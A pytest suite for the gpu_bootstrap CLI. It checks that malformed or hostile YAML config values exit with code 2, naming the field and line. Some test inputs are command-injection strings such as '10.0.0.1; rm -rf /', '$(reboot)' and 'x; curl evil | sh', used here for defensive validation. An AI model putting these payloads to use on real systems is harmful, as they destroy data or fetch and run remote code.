"""The config contract: bad input exits 2 with the field path and file line, changes nothing, never a traceback."""
from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from gpu_bootstrap.core import config as cfg
from gpu_bootstrap.cli.commands import app
from gpu_bootstrap.core.errors import ConfigError

pytestmark = pytest.mark.unit  # host-free: the fast loop (pytest -m unit)

ROOT = Path(__file__).resolve().parent.parent
runner = CliRunner()

# (name, YAML text, the field path expected in the message, the line expected in the message)
BAD_CONFIGS = [
    ("unknown top-level key", "nodes:\n  - name: a\nnode_perp: {}\n", "node_perp: unknown key", 3),
    ("unknown nested key", "nodes:\n  - name: a\nssh:\n  usr: root\n", "ssh.usr: unknown key", 4),
    ("port not an integer", "nodes:\n  - name: a\nssh:\n  port: twenty\n", "ssh.port", 4),
    ("port out of range", "nodes:\n  - name: a\nssh:\n  port: 70000\n", "ssh.port", 4),
    ("bad host key policy", "nodes:\n  - name: a\nssh:\n  host_key_policy: yolo\n", "ssh.host_key_policy", 4),
    ("nodes missing", "ssh:\n  user: root\n", "nodes: required key is missing", 1),
    ("nodes empty", "nodes: []\n", "nodes", 1),
    ("node without a name", "nodes:\n  - address: 10.0.0.1\n", "nodes[0].name: required key is missing", 2),
    ("node name with a space", "nodes:\n  - name: node 5\n", "nodes[0].name", 2),
    ("node name with a semicolon", "nodes:\n  - name: 'a;reboot'\n", "nodes[0].name", 2),
    ("node name with command substitution", "nodes:\n  - name: '$(reboot)'\n", "nodes[0].name", 2),
    ("node name of 300 characters", f"nodes:\n  - name: {'a' * 300}\n", "nodes[0].name", 2),
    ("address with shell metacharacters", "nodes:\n  - name: a\n    address: '10.0.0.1; rm -rf /'\n",
     "nodes[0].address", 3),
    ("duplicate node", "nodes:\n  - name: a\n  - name: a\n", "nodes[1].name", 3),
    ("bad taint effect", "nodes:\n  - name: a\nnode_prep:\n  taint: {key: k, value: v, effect: Sometimes}\n",
     "node_prep.taint.effect", 4),
    ("bad label key", "nodes:\n  - name: a\nnode_prep:\n  labels: {'bad key': x}\n", "node_prep.labels", 4),
    ("section is a list", "nodes:\n  - name: a\ncluster: [1, 2]\n", "cluster", 3),
    ("user with a space", "nodes:\n  - name: a\n    user: 'root admin'\n", "nodes[0].user", 3),
    ("wrong type for enabled", "nodes:\n  - name: a\nnode_prep:\n  enabled: maybe\n", "node_prep.enabled", 4),
]


@pytest.mark.parametrize("name, text, field, line", BAD_CONFIGS, ids=[c[0] for c in BAD_CONFIGS])
def test_bad_config_exits_2_naming_field_and_line(tmp_path, name, text, field, line):
    path = tmp_path / "gpu-bootstrap.yaml"
    path.write_text(text)
    result = runner.invoke(app, ["up", "--dry-run", "--offline", "-c", str(path), "--log-file",
                                 str(tmp_path / "log")])
    assert result.exit_code == 2, result.output
    assert f"{path}:{line}" in result.output and field in result.output, result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("text, where", [
    ("nodes:\n  - name: a\n   bad: indent\n", ":3"),
    ("nodes: [a\n", ":2"),
    ("\tnodes: []\n", ":1"),
])
def test_yaml_syntax_errors_name_the_line(tmp_path, text, where):
    path = tmp_path / "c.yaml"
    path.write_text(text)
    result = runner.invoke(app, ["up", "--dry-run", "--offline", "-c", str(path), "--log-file", str(tmp_path / "l")])
    assert result.exit_code == 2 and "YAML syntax error" in result.output and f"{path}{where}" in result.output


def test_missing_config_file_suggests_init(tmp_path):
    result = runner.invoke(app, ["up", "--dry-run", "--offline", "-c", str(tmp_path / "nope.yaml"),
                                 "--log-file", str(tmp_path / "l")])
    assert result.exit_code == 2 and "not found" in result.output and "gpu-bootstrap init" in result.output


def test_minimal_config_gets_every_default():
    config = cfg.validate({"nodes": [{"name": "node5"}]}, cfg.Source(None, {}))
    assert config.ssh.user == "root" and config.ssh.host_key_policy == "strict" and config.ssh.port == 22
    assert str(config.node_prep.taint) == "nvidia.com/gpu=present:NoSchedule"
    assert config.node_prep.wanted_labels() == {"nvidia.com/gpu.present": "true"}
    assert config.nodes[0].ssh_address == "node5"
    assert all(section.enabled for section in (config.gpu_operator, config.scheduler, config.admission,
                                               config.monitoring))


def test_environment_overrides_file_and_flags_override_both(tmp_path):
    path = tmp_path / "c.yaml"
    path.write_text("cluster: {context: from-file}\nssh: {port: 2200, user: admin}\nnodes:\n  - name: a\n")
    env = {"GPU_BOOTSTRAP_CONTEXT": "from-env", "GPU_BOOTSTRAP_SSH_PORT": "2222"}
    config = cfg.load(path, environ=env)
    assert (config.cluster.context, config.ssh.port, config.ssh.user) == ("from-env", 2222, "admin")
    flagged = cfg.load(path, environ=env, overrides={("cluster", "context"): "from-flag"})
    assert flagged.cluster.context == "from-flag"
    with pytest.raises(ConfigError) as raised:
        cfg.load(path, environ={"GPU_BOOTSTRAP_SSH_PORT": "lots"})
    assert "environment variable GPU_BOOTSTRAP_SSH_PORT: ssh.port" in raised.value.message


def test_paths_expand_the_home_directory():
    config = cfg.validate({"nodes": [{"name": "a", "identity_file": "~/k"}], "cluster": {"kubeconfig": "~/kc"}},
                          cfg.Source(None, {}))
    assert not str(config.cluster.kubeconfig).startswith("~") and not str(config.nodes[0].identity_file).startswith("~")


def test_init_writes_a_valid_commented_example(tmp_path):
    path = tmp_path / "gpu-bootstrap.yaml"
    result = runner.invoke(app, ["init", str(path)])
    assert result.exit_code == 0 and path.exists()
    from gpu_bootstrap.steps import config_model
    model = config_model()  # the built-in sections and those the steps bring (what `up` loads the file with)
    config = cfg.load(path, environ={}, model=model)
    assert [n.name for n in config.nodes] == ["node5", "node6"]
    assert "# " in path.read_text()
    written = yaml.safe_load(path.read_text())
    assert set(written) == set(model.keys())
    defaults = cfg.validate({"nodes": written["nodes"]}, cfg.Source(None, {}), model)
    for section in ("node_prep", "gpu_operator", "scheduler", "validation", "admission", "monitoring"):
        assert getattr(config, section) == getattr(defaults, section), section  # what it shows is the default
    again = runner.invoke(app, ["init", str(path)])
    assert again.exit_code == 2 and "--force" in again.output


@pytest.mark.parametrize("example", sorted((ROOT / "examples").glob("*.yaml")), ids=lambda p: p.name)
def test_every_example_config_is_valid(example):
    data = yaml.safe_load(example.read_text())
    if isinstance(data, dict) and "nodes" in data:
        cfg.load(example, environ={})


# Every config field that names a Kubernetes object or namespace (it reaches label values, host names, RBAC rules
# and the `kubectl create namespace` lines `rbac` prints): (section, YAML of the field, its path)
NAME_FIELDS = [
    ("gpu_operator", "release", "gpu_operator.release"), ("gpu_operator", "namespace", "gpu_operator.namespace"),
    ("monitoring", "release", "monitoring.release"), ("monitoring", "namespace", "monitoring.namespace"),
    ("scheduler", "name", "scheduler.name"), ("scheduler", "namespace", "scheduler.namespace"),
    ("scheduler", "lease_name", "scheduler.lease_name"), ("validation", "namespace", "validation.namespace"),
    ("registry", "pull_secret", "registry.pull_secret"),
]


@pytest.mark.parametrize("section, key, path", NAME_FIELDS, ids=[f[2] for f in NAME_FIELDS])
@pytest.mark.parametrize("value", ["x; curl evil | sh", "$(reboot)", "Upper", "a" * 254, "-leading"])
def test_every_name_field_takes_only_a_kubernetes_name(tmp_path, section, key, path, value):
    """A name that is not a DNS-1123 label (or subdomain, for a Secret) exits 2 naming the field and its line, for
    `rbac` too, whose output goes to a shell: nothing reaches it unquoted (found: validation.namespace was printed
    into `kubectl create namespace ...` as given)."""
    config = tmp_path / "gpu-bootstrap.yaml"
    config.write_text(yaml.safe_dump({"nodes": [{"name": "a"}], section: {key: value}}))
    result = runner.invoke(app, ["rbac", "--for", "dry-run", "--service-account", "ci/x", "-c", str(config),
                                 "--log-file", str(tmp_path / "log")])
    assert result.exit_code == 2, result.output
    assert path in result.output and f"{config}:" in result.output, result.output
